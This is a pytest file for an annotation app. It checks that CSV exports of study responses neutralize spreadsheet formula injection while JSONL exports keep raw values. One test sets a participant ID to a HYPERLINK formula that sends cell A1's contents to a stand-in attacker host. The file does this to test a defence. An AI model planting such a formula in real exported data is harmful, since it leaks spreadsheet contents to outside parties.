"""The responses CSV is safe to open in a spreadsheet (OWASP CSV injection); JSONL keeps the raw values."""
from __future__ import annotations

import csv
import io
import json

import pytest

from annotation.services.exports import responses_serialize
from tests import factories as f

pytestmark = pytest.mark.django_db


def test_formula_cells_are_neutralized_in_csv_only():
    study, _ = f.annotated_study(answers=[["S2-S1", "S1-S2"]])
    evil = study.participants.order_by("pk").first()
    evil.external_id = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    evil.save()
    other = study.participants.order_by("pk").last()
    other.external_id = "@SUM(1+1)"
    other.save()
    rows = list(csv.DictReader(io.StringIO("".join(responses_serialize(study=study, fmt="csv")))))
    ids = {row["participant"] for row in rows}
    assert ids == {"'" + evil.external_id, "'@SUM(1+1)"}
    assert {row["answer"] for row in rows} == {"S2-S1", "S1-S2"}  # ordinary cells untouched
    raw = [json.loads(line) for line in "".join(responses_serialize(study=study, fmt="jsonl")).splitlines()]
    assert {row["participant"] for row in raw} == {evil.external_id, "@SUM(1+1)"}


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-2", "'-2"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("ok", "ok"), (-2.5, -2.5), (3, 3), ("", ""),
])
def test_owasp_rule(value, expected):
    from core.spreadsheets import spreadsheet_safe

    assert spreadsheet_safe(value) == expected
